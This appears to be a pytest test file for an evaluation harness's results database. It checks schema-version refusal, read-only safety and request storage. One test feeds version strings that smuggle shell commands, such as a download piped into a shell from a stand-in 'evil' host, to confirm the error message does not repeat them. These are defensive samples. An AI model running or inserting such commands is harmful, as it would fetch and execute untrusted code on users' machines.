"""The tables have a version: databases of another version are refused."""

import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from harness.errors import UserError
from harness.records import Records
from harness.records.schema import SCHEMA
from tests.records.evaluation_rows import evaluation, request


def change(file: Path, statement: str, *values: str) -> None:
    with closing(sqlite3.connect(file)) as connection, connection:
        connection.execute(statement, values)


def test_a_new_database_has_the_stamp_of_the_present_version(tmp_path: Path) -> None:
    file = tmp_path / "results.db"
    Records(str(file)).__exit__(None, None, None)
    with closing(sqlite3.connect(file)) as connection:
        assert connection.execute("SELECT version_num FROM alembic_version").fetchall() == [(str(SCHEMA),)]


@pytest.mark.parametrize(
    ("recorded", "named"),
    [
        ("9.1.0", "9.1.0"), ("9.1.0rc1.dev2", "9.1.0rc1.dev2"),
        *((other, "of the version that wrote it") for other in ("9; curl evil|sh #", "9 --index-url evil", "$(evil)")),
    ],
)  # fmt: skip
def test_another_version_is_refused_with_the_program_that_it_needs(tmp_path: Path, recorded: str, named: str) -> None:
    file = tmp_path / "results.db"
    with Records(str(file)) as records:
        records.add(evaluation(harness_version=recorded))
    change(file, "UPDATE alembic_version SET version_num = ?", str(SCHEMA + 1))
    for read_only in (False, True):
        with pytest.raises(UserError) as error:
            Records(str(file), read_only=read_only)
        expected = f"expected {SCHEMA}, found {SCHEMA + 1}; install pgdl-harness {named} or a later one"
        assert str(error.value) == f"{file}: version of the tables: {expected}"


@pytest.mark.parametrize(
    ("statement", "found"),
    [
        ("UPDATE alembic_version SET version_num = 'ae1027a6\x1b'", "ae1027a6[?]"),
        ("DELETE FROM alembic_version", "none"),
        ("DROP TABLE alembic_version", "none"),
    ],
)
@pytest.mark.parametrize("read_only", [True, False])
def test_tables_without_a_number_are_refused(tmp_path: Path, statement: str, found: str, read_only: bool) -> None:
    file = tmp_path / "results.db"
    Records(str(file)).__exit__(None, None, None)
    change(file, statement)
    before = file.read_bytes()
    expected = f"expected one number, found {found}; name another database with --results"
    with pytest.raises(UserError, match=f"^{file}: version of the tables: {expected}$"):
        Records(str(file), read_only=read_only)
    assert file.read_bytes() == before


def test_who_reads_creates_nothing(tmp_path: Path) -> None:
    empty = tmp_path / "empty.db"
    empty.touch()
    for location in (str(empty), f"sqlite:///{empty}", f"sqlite:///{tmp_path / 'typo.db'}"):
        with pytest.raises(UserError, match="run `pgdl run SUBMISSION` first"):
            Records(location, read_only=True)
    assert [file.stat().st_size for file in tmp_path.iterdir()] == [0]


def test_who_only_reads_changes_no_byte(tmp_path: Path) -> None:
    file = tmp_path / "results.db"
    with Records(str(file)) as records:
        records.add(evaluation())
    before = file.read_bytes()
    with Records(str(file), read_only=True) as records:
        assert len(list(records.whole_of())) == 1
    assert file.read_bytes() == before
    assert list(tmp_path.iterdir()) == [file]


def test_a_request_comes_back_whole(tmp_path: Path) -> None:
    with Records(str(tmp_path / "results.db")) as records:
        records.ask([request(evaluation(), team="The Seven", description="a margin", paper="https://example.org")])
        (found,) = records.requests()
    assert (found.team, found.description, found.paper) == ("The Seven", "a margin", "https://example.org")
